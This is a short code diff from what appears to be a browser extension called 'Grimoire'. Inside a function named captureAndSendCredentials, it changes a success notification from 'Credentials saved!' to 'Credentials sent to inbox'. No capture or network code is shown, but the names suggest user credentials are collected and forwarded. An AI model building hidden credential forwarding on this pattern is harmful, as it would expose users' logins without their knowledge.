@@ -67,7 +67,7 @@ function captureAndSendCredentials() {
         }).then(response => {
             if (response.success) {
                 console.log('Grimoire: Credentials saved successfully');
-                showNotification('Grimoire: Credentials saved!', false);
+                showNotification('Grimoire: Credentials sent to inbox', false);
             } else {
                 console.error('Grimoire: Failed to save:', response.error);
                 showNotification('Failed to save credentials', true);